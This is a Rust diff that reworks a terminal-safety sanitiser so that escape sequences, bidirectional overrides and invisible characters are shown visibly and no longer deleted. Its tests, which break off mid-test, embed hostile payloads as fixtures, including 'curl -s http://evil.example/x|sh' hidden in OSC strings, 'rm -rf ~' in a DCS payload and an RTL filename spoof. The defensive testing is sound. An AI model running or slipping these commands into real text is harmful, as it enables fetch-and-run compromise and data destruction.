@@ -1,27 +1,48 @@
 //! The one place where agent- or server-supplied text is made safe to show:
 //! in a terminal, an editor, a log line or a URL path.
 //!
-//! - [`multi_line`] and [`one_line`] remove terminal escape sequences whole,
-//!   other control characters, and the invisible formatting characters that
-//!   can make text display differently from what it says, while keeping what
-//!   real scripts and emoji need (joiners, variation selectors, combining
-//!   marks, emoji flag tag sequences, right-to-left letters).
-//! - [`bounded`] cuts text quoted in notices and errors to a length, without
-//!   splitting a character from the marks or joiners that belong to it.
+//! Text is neutralised by showing, never by deleting: a person must see every
+//! character a command holds, so nothing that could act on a terminal or
+//! reorder text is passed through, and nothing is dropped either.
+//!
+//! - [`multi_line`] and [`one_line`] show each C0 control as its control
+//!   picture (U+2400 + code: `␛` for ESC, `␇` for BEL, `␍` for a CR that
+//!   does not end a line), DEL as `␡`, and C1 controls, bidirectional
+//!   controls, invisible formatting characters and stray tag characters as
+//!   their code point in angle brackets (`⟨U+202E⟩`). An escape string
+//!   (CSI, OSC, DCS, SOS, PM, APC, in 7- or 8-bit form, terminated or not)
+//!   is thus shown whole, payload included: `␛]0;curl -s
+//!   http://evil.example/x|sh;␇`. What real scripts and emoji need passes
+//!   unchanged (joiners, variation selectors, combining marks, emoji flag tag
+//!   sequences, right-to-left letters). Tabs show as a space.
+//!   [`one_line`] shows a line break as `␤`.
+//! - Long runs of blanks show as `␠×4000` and of blank lines as
+//!   `[300 blank lines]` (`␤×301` on one line), so that padding cannot push
+//!   the rest of a command out of view (thresholds and why: `ONE_LINE_BLANKS`,
+//!   `MULTI_LINE_BLANKS`, `BLANK_LINES`).
+//! - [`bounded`] cuts text to a length, without splitting a character from
+//!   the marks or joiners that belong to it, and says how much it hid:
+//!   `… (+1,234 more characters)`.
 //! - [`for_display`] does both for ids, server names and server error
 //!   messages, without copying more of a huge input than it shows.
 //! - [`url_segment`] admits a server's id into a URL path only when it is
 //!   made of OpenCode's id alphabet.
 //!
-//! Plain text needs no change, so these return [`Cow::Borrowed`] for it; when
-//! something must go, the result is built in one allocation the size of the
-//! input (no replacement is longer than what it replaces).
+//! A control picture or a `⟨U+…⟩` the agent typed itself shows the same as
+//! the character it stands for: both are harmless to show. Shown text is for
+//! people only: policies must match the raw server text.
+//!
+//! Plain text needs no change, so these return [`Cow::Borrowed`] for it.
+//! Shown text is bounded: at most 6 times the input's size in bytes (the
+//! largest growth is a 2-byte C1 control shown as the 12-byte `⟨U+0085⟩`).
 //!
 //! Over 500 lines because the rules and their tests belong together: the
-//! code is under 500, the rest is the test suite (every character class,
-//! every escape form, a generated-input property test).
+//! code is under 600 (60 of them the generated table of extending
+//! characters), the rest is the test suite (every character class, every
+//! escape form, runs, cuts, a generated-input property test).
 
 use std::borrow::Cow;
+use std::fmt::Write as _;
 
 /// How many characters of an id [`for_display`] should show.
 pub const DISPLAY_ID_CHARS: usize = 80;
@@ -33,70 +54,136 @@ pub const URL_SEGMENT_MAX: usize = 128;
 /// How much of a refused id its error quotes.
 const REFUSED_ID_CHARS: usize = 40;
 
-const ESC: char = '\u{1b}';
-const BEL: char = '\u{7}';
-const CAN: char = '\u{18}';
-const SUB: char = '\u{1a}';
-/// The 8-bit (C1) forms of CSI, ST and the string-introducing controls.
-const CSI_C1: char = '\u{9b}';
-const ST_C1: char = '\u{9c}';
-const ZWJ: char = '\u{200d}';
+/// Longest run of blanks [`one_line`] shows as it is. One-line text (a
+/// label, a title, a command's pattern) has no indentation to keep; a few
+/// spaces of alignment pass, and a longer run no longer pushes what follows
+/// out of a button or a list.
+const ONE_LINE_BLANKS: usize = 16;
+/// Longest run of blanks [`multi_line`] shows as it is: a terminal's width.
+/// Hand-written code is not indented that deep (ten levels of four spaces
+/// is 40), and a longer run would hide the rest of its line past the edge.
+const MULTI_LINE_BLANKS: usize = 80;
+/// Most blank lines in a row shown as they are: prose separates paragraphs
+/// with one and style guides allow two or three in code; more only push
+/// what follows out of view.
+const BLANK_LINES: usize = 3;
+
 const BLACK_FLAG: char = '\u{1f3f4}';
 const CANCEL_TAG: char = '\u{e007f}';
+const ZWJ: char = '\u{200d}';
+/// SYMBOL FOR SPACE, shown for a collapsed run of blanks.
+const SPACE_PICTURE: char = '␠';
+/// SYMBOL FOR NEWLINE, shown for a line break in one-line text.
+const NEWLINE_PICTURE: char = '␤';
+const DEL_PICTURE: char = '␡';
 
-/// Text that may span lines (question bodies, descriptions): keeps `\n`,
-/// turns tabs into spaces, drops CR, trims trailing whitespace.
+/// Text that may span lines (question bodies, commands, diffs): keeps line
+/// breaks (`\n`, `\r\n`), shows the rest visibly (module doc), trims trailing
+/// whitespace.
 pub fn multi_line(input: &str) -> Cow<'_, str> {
-    neutralise(input, true)
+    shown(input, true)
 }
 
-/// One-line text (headers, labels, ids, names): newlines and tabs become
-/// spaces, CR is dropped, surrounding whitespace is trimmed.
+/// One-line text (headers, labels, ids, names): as [`multi_line`], with line
+/// breaks shown as `␤` and surrounding whitespace trimmed.
 pub fn one_line(input: &str) -> Cow<'_, str> {
-    neutralise(input, false)
+    shown(input, false)
 }
 
-fn neutralise(input: &str, keep_newlines: bool) -> Cow<'_, str> {
-    if input.chars().all(|c| untouched(c, keep_newlines)) {
-        return Cow::Borrowed(trim(input, keep_newlines));
+fn shown(input: &str, keep_newlines: bool) -> Cow<'_, str> {
+    let input = trim(input, keep_newlines);
+    if !needs_change(input, keep_newlines) {
+        return Cow::Borrowed(input);
     }
-    // Every replacement is at most as long as what it replaces, so this
-    // capacity is never outgrown and trimming happens in place.
     let mut out = String::with_capacity(input.len());
-    let mut chars = Neutralised::new(input, keep_newlines);
-    if keep_newlines {
-        out.extend(chars);
-    } else {
-        out.extend(chars.by_ref().skip_while(|c| c.is_whitespace()));
-    }
-    let kept = out.trim_end().len();
-    out.truncate(kept);
+    out.extend(Visible::new(input, keep_newlines));
     Cow::Owned(out)
 }
 
+/// Only blanks and line breaks are trimmed: a trailing control is shown.
 fn trim(s: &str, keep_newlines: bool) -> &str {
+    let trimmed = |c: char| blank(c) || matches!(c, '\n' | '\r');
     if keep_newlines {
-        s.trim_end()
+        s.trim_end_matches(trimmed)
     } else {
-        s.trim()
+        s.trim_matches(trimmed)
     }
 }
 
-/// True when `c` passes through unchanged (trimming aside).
+/// True when `c` passes through unchanged (trimming and runs of blanks aside).
 fn untouched(c: char, keep_newlines: bool) -> bool {
     if c.is_ascii() {
         return (' '..='~').contains(&c) || (c == '\n' && keep_newlines);
     }
-    !(c.is_control() || removed(c) || matches!(c, '\u{2028}' | '\u{2029}'))
+    !(c.is_control() || coded(c))
 }
 
-/// Characters that go wherever they appear (tag characters are kept only as
-/// part of a flag, which [`Neutralised`] decides before asking this).
-fn removed(c: char) -> bool {
+/// Spaces and tabs, and the Unicode spaces (no-break, ideographic, en…) that
+/// show as blank. Not line breaks, nor controls that merely count as
+/// whitespace: those are shown.
+fn blank(c: char) -> bool {
+    c == ' '
+        || c == '\t'
+        || (!c.is_ascii() && c.is_whitespace() && !matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}'))
+}
+
+/// Whether `input` (trimmed) shows differently from what it is.
+fn needs_change(input: &str, keep_newlines: bool) -> bool {
+    let blanks_shown = blank_limit(keep_newlines);
+    let mut blanks = 0;
+    // Blank lines in a row so far, and whether the current line is blank
+    // (the first line follows no break, so it never counts).
+    let mut blank_lines = 0;
+    let mut line_blank = false;
+    for c in input.chars() {
+        if !untouched(c, keep_newlines) {
+            return true;
+        }
+        if blank(c) {
+            blanks += 1;
+            if blanks > blanks_shown {
+                return true;
+            }
+            continue;
+        }
+        blanks = 0;
+        if c == '\n' {
+            if line_blank {
+                blank_lines += 1;
+                if blank_lines > BLANK_LINES {
+                    return true;
+                }
+            } else {
+                blank_lines = 0;
+            }
+            line_blank = true;
+        } else {
+            line_blank = false;
+        }
+    }
+    false
+}
+
+fn blank_limit(keep_newlines: bool) -> usize {
+    if keep_newlines {
+        MULTI_LINE_BLANKS
+    } else {
+        ONE_LINE_BLANKS
+    }
+}
+
+/// Characters shown as `⟨U+…⟩` wherever they appear (tag characters pass
+/// only as part of a flag, which [`Visible`] decides before asking this).
+/// Non-ASCII only: ASCII controls have their control pictures.
+fn coded(c: char) -> bool {
     matches!(c,
-        // C0 and C1 controls and DEL: terminals act on them instead of showing
-        // them. (Newlines and tabs are mapped before this is asked.)
-        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
+        // C1 controls (NEL, CSI, OSC, ST…): terminals act on them instead of
+        // showing them.
+        '\u{80}'..='\u{9f}'
+        // LINE and PARAGRAPH SEPARATOR: some editors break lines on them, a
+        // shell does not.
+        | '\u{2028}'
+        | '\u{2029}'
         // Bidirectional controls: the embeddings/overrides (U+202E turns
         // `exe.txt` into `txt.exe`), the isolates, LRM/RLM and the ARABIC
         // LETTER MARK. They reorder text; Hebrew and Arabic letters need none
@@ -144,97 +231,83 @@ fn removed(c: char) -> bool {
     // and visible format characters such as U+0600–U+0605 or U+13430–U+1343F.
 }
 
-/// The neutralised characters of a string, before trimming.
-struct Neutralised<'a> {
+/// The shown characters of a trimmed string.
+struct Visible<'a> {
     rest: std::str::Chars<'a>,
     keep_newlines: bool,
     /// Tag characters still to pass because they complete a flag.
     flag_tags: usize,
+    /// Blanks still to pass as they are (a run counted and found short).
+    short_blanks: usize,
+    /// The rest of a replacement being handed out, from byte `at`.
+    pending: String,
+    at: usize,
 }
 
-impl<'a> Neutralised<'a> {
+impl<'a> Visible<'a> {
     fn new(input: &'a str, keep_newlines: bool) -> Self {
-        Neutralised {
+        Visible {
             rest: input.chars(),
             keep_newlines,
             flag_tags: 0,
+            short_blanks: 0,
+            pending: String::new(),
+            at: 0,
         }
     }
 
-    fn peek(&self) -> Option<char> {
-        self.rest.clone().next()
+    /// Hands out `first`, then what `write` puts after it.
+    fn replaced(&mut self, first: char, write: impl FnOnce(&mut String)) -> char {
+        self.pending.clear();
+        self.at = 0;
+        write(&mut self.pending);
+        first
     }
 
-    /// After ESC: the rest of the sequence, per ECMA-48.
-    fn skip_escape(&mut self) {
-        match self.peek() {
-            Some('[') => {
-                self.rest.next();
-                self.skip_csi();
-            }
-            // OSC, DCS, SOS, PM, APC: a string up to its terminator.
-            Some(']' | 'P' | 'X' | '^' | '_') => {
-                self.rest.next();
-                self.skip_string();
-            }
-            // nF sequences (charset designation `ESC ( B`, `ESC # 8` which
-            // fills the screen): intermediates, then one final byte.
-            Some(' '..='/') => {
-                while let Some(' '..='/') = self.peek() {
-                    self.rest.next();
-                }
-                if let Some('0'..='~') = self.peek() {
-                    self.rest.next();
-                }
-            }
-            // Two-byte sequences such as `ESC c` (full reset) or `ESC 7`.
-            Some('0'..='~') => {
-                self.rest.next();
-            }
-            // ESC before anything else: only the ESC goes.
-            _ => {}
+    /// At a blank: a run too long to show as it is becomes `␠×N`.
+    fn blanks(&mut self, c: char) -> char {
+        let run = 1 + self.rest.clone().take_while(|&c| blank(c)).count();
+        if run <= blank_limit(self.keep_newlines) {
+            self.short_blanks = run - 1;
+            return shown_blank(c);
         }
-    }
-
-    /// After CSI: parameters and intermediates up to one final byte.
-    fn skip_csi(&mut self) {
-        while let Some(c) = self.peek() {
-            match c {
-                ' '..='?' => {}
-                '@'..='~' | CAN | SUB => {
-                    self.rest.next();
-                    return;
-                }
-                // A new sequence aborts this one; the caller handles it.
-                ESC | '\u{80}'..='\u{9f}' => return,
-                // Terminals execute other controls inside a CSI and carry on.
-                c if c.is_control() => {}
-                // Not part of a CSI: stays text.
-                _ => return,
-            }
+        for _ in 1..run {
             self.rest.next();
         }
+        self.replaced(SPACE_PICTURE, |out| {
+            let _ = write!(out, "×{run}");
+        })
     }
 
-    /// After OSC, DCS, SOS, PM or APC: the payload (an OSC 52 clipboard
-    /// write, an OSC 8 link target…) up to BEL or ST, or to the end of the
-    /// input if unterminated, as a terminal would swallow it.
-    fn skip_string(&mut self) {
-        while let Some(c) = self.peek() {
-            if c == ESC {
-                let mut ahead = self.rest.clone();
-                ahead.next();
-                if ahead.next() == Some('\\') {
-                    self.rest = ahead;
-                }
-                // ESC other than ST aborts the string and starts a new
-                // sequence, left to the caller (no recursion on hostile input).
-                return;
+    /// After a line break: more than [`BLANK_LINES`] blank lines after it
+    /// are shown as their count.
+    fn line_break(&mut self) -> char {
+        let mut after = self.rest.clone();
+        let mut blank_lines = 0;
+        loop {
+            let mut line = after.clone();
+            while line.clone().next().is_some_and(|c| blank(c) || c == '\r') {
+                line.next();
             }
-            self.rest.next();
-            if matches!(c, BEL | ST_C1 | CAN | SUB) {
-                return;
+            if line.next() != Some('\n') {
+                break;
             }
+            blank_lines += 1;
+            after = line;
+        }
+        let collapse = blank_lines > BLANK_LINES;
+        if collapse {
+            self.rest = after;
+        }
+        match (self.keep_newlines, collapse) {
+            (true, false) => '\n',
+            (true, true) => self.replaced('\n', |out| {
+                let _ = writeln!(out, "[{blank_lines} blank lines]");
+            }),
+            (false, false) => NEWLINE_PICTURE,
+            (false, true) => self.replaced(NEWLINE_PICTURE, |out| {
+                let _ = write!(out, "×{}", blank_lines + 1);
+            }),
         }
     }
 
@@ -257,59 +330,66 @@ impl<'a> Neutralised<'a> {
     }
 }
 
-impl Iterator for Neutralised<'_> {
+/// A blank shown on its own: a tab as a space, others as they are.
+fn shown_blank(c: char) -> char {
+    if c == '\t' { ' ' } else { c }
+}
+
+impl Iterator for Visible<'_> {
     type Item = char;
 
     fn next(&mut self) -> Option<char> {
-        loop {
-            let c = self.rest.next()?;
-            if self.flag_tags > 0 {
-                self.flag_tags -= 1;
-                return Some(c);
-            }
-            match c {
-                ESC => self.skip_escape(),
-                CSI_C1 => self.skip_csi(),
-                // 8-bit DCS, SOS, OSC, PM, APC.
-                '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => self.skip_string(),
-                // Line breaks, including NEL and the Unicode separators that
-                // some editors and terminals break lines on.
-                '\n' | '\u{85}' | '\u{2028}' | '\u{2029}' => {
-                    return Some(if self.keep_newlines { '\n' } else { ' ' });
-                }
-                '\t' => return Some(' '),
-                BLACK_FLAG => {
-                    self.flag_tags = self.flag_tag_count();
-                    return Some(c);
-                }
-                c if removed(c) => {}
-                c => return Some(c),
-            }
+        if let Some(c) = self.pending[self.at..].chars().next() {
+            self.at += c.len_utf8();
+            return Some(c);
         }
+        let c = self.rest.next()?;
+        if self.flag_tags > 0 {
+            self.flag_tags -= 1;
+            return Some(c);
+        }
+        if self.short_blanks > 0 {
+            self.short_blanks -= 1;
+            return Some(shown_blank(c));
+        }
+        Some(match c {
+            '\n' => self.line_break(),
+            '\r' if self.rest.clone().next() == Some('\n') => {
+                self.rest.next();
+                self.line_break()
+            }
+            c if blank(c) => self.blanks(c),
+            BLACK_FLAG => {
+                self.flag_tags = self.flag_tag_count();
+                c
+            }
+            '\u{0}'..='\u{1f}' => char::from_u32(0x2400 + c as u32).expect("control pictures"),
+            '\u{7f}' => DEL_PICTURE,
+            c if coded(c) => self.replaced('⟨', |out| {
+                let _ = write!(out, "U+{:04X}⟩", c as u32);
+            }),
+            c => c,
+        })
     }
 }
 
-/// At most `max_chars` characters of `s`: unchanged if it fits, otherwise
-/// cut and ended with `…` (which counts). The cut never separates a
-/// character from a following combining mark, joiner, variation selector or
-/// emoji modifier, nor the two halves of a flag. `max_chars == 0` gives "".
+/// `s` if it has at most `max_chars` characters; otherwise its first
+/// `max_chars` at most, then a note of how many it hid:
+/// `… (+1,234 more characters)`. The cut never separates a character from a
+/// following combining mark, joiner, variation selector or emoji modifier,
+/// nor the two halves of a flag.
 pub fn bounded(s: &str, max_chars: usize) -> Cow<'_, str> {
-    if max_chars == 0 {
-        return Cow::Borrowed("");
-    }
     if s.char_indices().nth(max_chars).is_none() {
         return Cow::Borrowed(s);
     }
-    Cow::Owned(cut(s, max_chars))
+    Cow::Owned(cut(s, max_chars, 0))
 }
 
-/// `s`, known to have more than `max_chars` (≥ 1) characters, cut to at most
-/// `max_chars` including the ellipsis.
-fn cut(s: &str, max_chars: usize) -> String {
-    let mut at = s
-        .char_indices()
-        .nth(max_chars - 1)
-        .map_or(s.len(), |(i, _)| i);
+/// `s`, known to have more than `keep` characters, cut to at most `keep` and
+/// marked with how many are hidden, counting `hidden_after` more that follow
+/// `s` in the text it was taken from.
+fn cut(s: &str, keep: usize, hidden_after: usize) -> String {
+    let mut at = s.char_indices().nth(keep).map_or(s.len(), |(i, _)| i);
     while let (Some(before), Some(after)) = (s[..at].chars().next_back(), s[at..].chars().next()) {
         let splits = extends(after)
             || before == ZWJ
@@ -322,10 +402,29 @@ fn cut(s: &str, max_chars: usize) -> String {
         at -= before.len_utf8();
     }
     let kept = s[..at].trim_end();
-    let mut out = String::with_capacity(kept.len() + '…'.len_utf8());
+    let hidden = s[kept.len()..].chars().count() + hidden_after;
+    let mut out = String::with_capacity(kept.len() + 40);
     out.push_str(kept);
-    out.push('…');
+    out.push_str(&cut_note(hidden));
     out
+}
+
+/// `… (+1,234 more characters)`: what a cut hid.
+fn cut_note(hidden: usize) -> String {
+    let digits = hidden.to_string();
+    let mut grouped = String::with_capacity(digits.len() * 4 / 3);
+    for (i, d) in digits.chars().enumerate() {
+        if i > 0 && (digits.len() - i).is_multiple_of(3) {
+            grouped.push(',');
+        }
+        grouped.push(d);
+    }
+    let noun = if hidden == 1 {
+        "character"
+    } else {
+        "characters"
+    };
+    format!("… (+{grouped} more {noun})")
 }
 
 fn regional(c: char) -> bool {
@@ -408,25 +507,22 @@ fn extends(c: char) -> bool {
     lo < ranges && EXTEND[2 * lo] <= c
 }
 
-/// One-line neutralised and [`bounded`] in one pass, for ids, server names and
+/// One-line shown and [`bounded`] in one pass, for ids, server names and
 /// server error messages quoted in terminal lines, notices and logs. Copies
-/// no more of a huge input than it shows.
+/// no more of a huge input than it shows (the rest is only counted).
 pub fn for_display(input: &str, max_chars: usize) -> Cow<'_, str> {
-    if input.chars().all(|c| untouched(c, false)) {
-        return bounded(input.trim(), max_chars);
+    let input = trim(input, false);
+    if !needs_change(input, false) {
+        return bounded(input, max_chars);
     }
-    if max_chars == 0 {
-        return Cow::Borrowed("");
+    let mut chars = Visible::new(input, false);
+    let mut shown = String::with_capacity(input.len().min(max_chars.saturating_add(1) * 4));
+    shown.extend(chars.by_ref().take(max_chars.saturating_add(1)));
+    let hidden_after = chars.count();
+    if hidden_after == 0 && shown.chars().nth(max_chars).is_none() {
+        return Cow::Owned(shown);
     }
-    let mut chars = Neutralised::new(input, false).skip_while(|c| c.is_whitespace());
-    let mut shown = String::with_capacity(input.len().min(max_chars * 4));
-    shown.extend(chars.by_ref().take(max_chars));
-    if chars.any(|c| !c.is_whitespace()) {
-        return Cow::Owned(cut(&shown, max_chars));
-    }
-    let kept = shown.trim_end().len();
-    shown.truncate(kept);
-    Cow::Owned(shown)
+    Cow::Owned(cut(&shown, max_chars, hidden_after))
 }
 
 /// Why a server's id may not go into a URL path. Quotes at most a bounded,
@@ -491,9 +587,9 @@ mod tests {
 
     const FLAG_SCOTLAND: &str = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}";
 
-    /// Every character `removed` names: each group's ends and more.
-    const REMOVED: &str = concat!(
-        "\u{0}\u{7}\u{8}\u{b}\u{c}\r\u{1b}\u{1f}\u{7f}\u{80}\u{90}\u{9b}\u{9c}\u{9d}\u{9f}",
+    /// Every character shown as `⟨U+…⟩`: each group's ends and more.
+    const CODED: &str = concat!(
+        "\u{80}\u{85}\u{90}\u{9b}\u{9c}\u{9d}\u{9f}\u{2028}\u{2029}",
         "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}",
         "\u{200e}\u{200f}\u{61c}\u{ad}\u{200b}\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}",
         "\u{2065}\u{206a}\u{206f}\u{feff}\u{180e}\u{3164}\u{ffa0}",
@@ -520,6 +616,7 @@ mod tests {
             "Mongolian ᠠ\u{180b}",
             "plain ASCII, with punctuation: a/b?c#d",
             "Grüße, ¿qué?",
+            "Bonjour\u{a0}! 日本語\u{3000}です",
         ] {
             let line = one_line(text);
             assert_eq!(line, text);
@@ -533,57 +630,74 @@ mod tests {
     }
 
     #[test]
-    fn each_removed_character_goes_between_letters() {
-        // ESC, CSI and the string introducers also take what follows them.
-        let introducers = [
-            '\u{1b}', '\u{90}', '\u{98}', '\u{9b}', '\u{9d}', '\u{9e}', '\u{9f}',
-        ];
-        for c in REMOVED.chars().filter(|c| !introducers.contains(c)) {
+    fn each_control_and_invisible_is_shown_between_letters() {
+        for c in CODED.chars() {
             let input = format!("a{c}b");
-            assert_eq!(one_line(&input), "ab", "{:04X}", c as u32);
-            assert_eq!(multi_line(&input), "ab", "{:04X}", c as u32);
+            let want = format!("a⟨U+{:04X}⟩b", c as u32);
+            assert_eq!(one_line(&input), want);
+            assert_eq!(multi_line(&input), want);
+        }
+        for (c, picture) in [
+            ('\u{0}', '␀'),
+            ('\u{7}', '␇'),
+            ('\u{8}', '␈'),
+            ('\u{b}', '␋'),
+            ('\u{c}', '␌'),
+            ('\r', '␍'),
+            ('\u{1b}', '␛'),
+            ('\u{1f}', '␟'),
+            ('\u{7f}', '␡'),
+        ] {
+            let want = format!("a{picture}b");
+            assert_eq!(one_line(&format!("a{c}b")), want);
+            assert_eq!(multi_line(&format!("a{c}b")), want);
         }
     }
 
     #[test]
-    fn named_invisibles_and_direction_controls_go() {
-        assert_eq!(one_line("a\u{e0041}\u{e0042}b"), "ab");
-        assert_eq!(one_line("\u{61c}x\u{ad}y\u{180e}z"), "xyz");
-        assert_eq!(one_line("invoice\u{202e}fdp.exe"), "invoicefdp.exe");
-        assert_eq!(one_line("abc\u{202e}שלום\u{202c}"), "abcשלום");
-        assert_eq!(one_line("\u{2067}مرحبا\u{2069}"), "مرحبا");
+    fn direction_controls_and_invisibles_are_shown_where_they_are() {
+        assert_eq!(one_line("invoice\u{202e}fdp.exe"), "invoice⟨U+202E⟩fdp.exe");
         assert_eq!(
-            one_line("a\u{fff9}shown\u{fffa}hidden\u{fffb}b"),
-            "ashownhiddenb"
+            one_line("abc\u{202e}שלום\u{202c}"),
+            "abc⟨U+202E⟩שלום⟨U+202C⟩"
+        );
+        assert_eq!(one_line("\u{2067}مرحبا\u{2069}"), "⟨U+2067⟩مرحبا⟨U+2069⟩");
+        assert_eq!(one_line("a\u{e0041}\u{e0042}b"), "a⟨U+E0041⟩⟨U+E0042⟩b");
+        assert_eq!(
+            one_line("git\u{200b} status\u{feff}"),
+            "git⟨U+200B⟩ status⟨U+FEFF⟩"
         );
     }
 
     #[test]
-    fn tags_stay_only_as_a_well_formed_flag() {
-        // Tags smuggling upper-case ASCII after a black flag: the flag stays.
+    fn tags_pass_only_as_a_well_formed_flag() {
+        // Tags smuggling upper-case ASCII after a black flag are shown.
         assert_eq!(
             one_line("\u{1f3f4}\u{e0049}\u{e0047}\u{e004e}\u{e007f}x"),
-            "\u{1f3f4}x"
+            "\u{1f3f4}⟨U+E0049⟩⟨U+E0047⟩⟨U+E004E⟩⟨U+E007F⟩x"
         );
-        // Too long to be a subdivision, or never closed: all tags go.
+        // Too long to be a subdivision, or never closed: all tags are shown.
         let long: String = std::iter::once('\u{1f3f4}')
             .chain(std::iter::repeat_n('\u{e0061}', 8))
             .chain(['\u{e007f}'])
             .collect();
-        assert_eq!(one_line(&long), "\u{1f3f4}");
+        assert_eq!(
+            one_line(&long),
+            format!("\u{1f3f4}{}⟨U+E007F⟩", "⟨U+E0061⟩".repeat(8))
+        );
         assert_eq!(
             one_line("\u{1f3f4}\u{e0067}\u{e0062}\u{e0073} x"),
-            "\u{1f3f4} x"
+            "\u{1f3f4}⟨U+E0067⟩⟨U+E0062⟩⟨U+E0073⟩ x"
         );
-        // A flag's tags after anything but U+1F3F4 go.
+        // A flag's tags after anything but U+1F3F4 are shown.
         assert_eq!(
             one_line("\u{1f3f3}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}"),
-            "\u{1f3f3}"
+            "\u{1f3f3}⟨U+E0067⟩⟨U+E0062⟩⟨U+E0073⟩⟨U+E0063⟩⟨U+E0074⟩⟨U+E007F⟩"
         );
-        // Something removed between the flag and its tags breaks the sequence.
+        // Something between the flag and its tags breaks the sequence.
         assert_eq!(
             one_line("\u{1f3f4}\u{200b}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}"),
-            "\u{1f3f4}"
+            "\u{1f3f4}⟨U+200B⟩⟨U+E0067⟩⟨U+E0062⟩⟨U+E0073⟩⟨U+E0063⟩⟨U+E0074⟩⟨U+E007F⟩"
         );
         assert_eq!(
             one_line(&format!("{FLAG_SCOTLAND}{FLAG_SCOTLAND}")),
@@ -592,42 +706,47 @@ mod tests {
     }
 
     #[test]
-    fn escape_sequences_go_whole() {
+    fn escape_strings_are_shown_whole_with_their_payload() {
         let cases = [
-            ("\u{1b}]52;c;SGVsbG8gY2xpcGJvYXJk\u{7}after", "after"),
-            ("\u{1b}]52;c;SGVsbG8=\u{1b}\\after", "after"),
+            // The command: the payload is what bash runs.
+            (
+                "git status\u{1b}]0;curl -s http://evil.example/x|sh;\u{7}",
+                "git status␛]0;curl -s http://evil.example/x|sh;␇",
+            ),
+            (
+                "\u{1b}]52;c;SGVsbG8gY2xpcGJvYXJk\u{7}after",
+                "␛]52;c;SGVsbG8gY2xpcGJvYXJk␇after",
+            ),
+            (
+                "\u{1b}]52;c;SGVsbG8=\u{1b}\\after",
+                "␛]52;c;SGVsbG8=␛\\after",
+            ),
             (
                 "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
-                "click",
+                "␛]8;;https://evil.example/␛\\click␛]8;;␛\\",
             ),
-            ("\u{1b}]0;window title\u{7}x", "x"),
-            ("before\u{1b}[2J\u{1b}[Hafter", "beforeafter"),
-            ("\u{1b}[31mred\u{1b}[0m", "red"),
-            ("\u{1b}[38;2;255;0;0mtrue colour\u{1b}[m", "true colour"),
-            ("\u{1b}[?1049h\u{1b}[?25lx", "x"),
-            ("\u{9b}31mred", "red"),
-            ("\u{9d}52;c;SGVsbG8=\u{9c}x", "x"),
-            ("\u{9d}0;title\u{7}x", "x"),
-            ("\u{90}q#0;2;0;0;0\u{9c}x", "x"),
-            ("\u{1b}Pq#0;2;0;0;0\u{1b}\\x", "x"),
-            ("\u{1b}_apc payload\u{1b}\\x", "x"),
-            ("\u{1b}^pm payload\u{1b}\\x", "x"),
-            ("\u{1b}Xsos payload\u{1b}\\x", "x"),
-            ("\u{98}sos\u{9c}\u{9e}pm\u{9c}\u{9f}apc\u{9c}x", "x"),
-            ("\u{1b}cx", "x"),
-            ("\u{1b}7x\u{1b}8", "x"),
-            ("\u{1b}(Bx\u{1b}#8", "x"),
-            ("x\u{1b}", "x"),
-            ("\u{1b}\u{1b}[1mx", "x"),
-            // Cancelled by CAN, aborted by a new ESC, controls inside a CSI.
-            ("\u{1b}[12\u{18}x", "x"),
-            ("\u{1b}]0;t\u{1b}[31mred", "red"),
-            ("\u{1b}[1\u{7}2mx", "x"),
-            // A CSI ends at a character that cannot belong to it.
-            ("\u{1b}[1é", "é"),
-            // Unterminated strings run to the end, as in a terminal.
-            ("x\u{1b}]52;c;SGVsbG8=", "x"),
-            ("x\u{9d}8;;http://e/\nmore", "x"),
+            ("before\u{1b}[2J\u{1b}[Hafter", "before␛[2J␛[Hafter"),
+            ("\u{1b}[31mred\u{1b}[0m", "␛[31mred␛[0m"),
+            ("\u{1b}[?1049h\u{1b}[?25lx", "␛[?1049h␛[?25lx"),
+            // DCS, APC, PM, SOS … ST.
+            ("\u{1b}Pq#0;rm -rf ~\u{1b}\\x", "␛Pq#0;rm -rf ~␛\\x"),
+            ("\u{1b}_curl x|sh\u{1b}\\x", "␛_curl x|sh␛\\x"),
+            ("\u{1b}^pm payload\u{1b}\\x", "␛^pm payload␛\\x"),
+            ("\u{1b}Xsos payload\u{1b}\\x", "␛Xsos payload␛\\x"),
+            // 8-bit forms.
+            ("\u{9b}31mred", "⟨U+009B⟩31mred"),
+            (
+                "git status\u{9d}0;curl -s http://evil.example/x|sh;\u{9c}",
+                "git status⟨U+009D⟩0;curl -s http://evil.example/x|sh;⟨U+009C⟩",
+            ),
+            (
+                "\u{90}q#0\u{9c}\u{98}s\u{9c}\u{9e}p\u{9c}\u{9f}a\u{9c}x",
+                "⟨U+0090⟩q#0⟨U+009C⟩⟨U+0098⟩s⟨U+009C⟩⟨U+009E⟩p⟨U+009C⟩⟨U+009F⟩a⟨U+009C⟩x",
+            ),
+            ("\u{1b}cx\u{1b}(B\u{1b}#8", "␛cx␛(B␛#8"),
+            // Unterminated: shown to the end.
+            ("x\u{1b}]52;c;SGVsbG8=", "x␛]52;c;SGVsbG8="),
+            ("x\u{1b}", "x␛"),
         ];
         for (input, want) in cases {
             assert_eq!(one_line(input), want, "{input:?}");
@@ -636,78 +755,167 @@ mod tests {
     }
 
     #[test]
+    fn an_escape_string_spanning_lines_hides_none_of_them() {
+        // A terminal would swallow the added lines up to the BEL; shown, every
+        // line is there.
+        let diff = "--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-old\n+new\u{1b}]0;\n+curl -s http://evil.example/x | sh\n+\u{7}";
+        assert_eq!(
+            multi_line(diff),
+            "--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-old\n+new␛]0;\n+curl -s http://evil.example/x | sh\n+␇"
+        );
+        assert_eq!(
+            multi_line("x\u{9d}8;;http://e/\nmore"),
+            "x⟨U+009D⟩8;;http://e/\nmore"
+        );
+        assert_eq!(
+            one_line("git status\u{1b}]0;\nrm -rf ~\u{7}"),
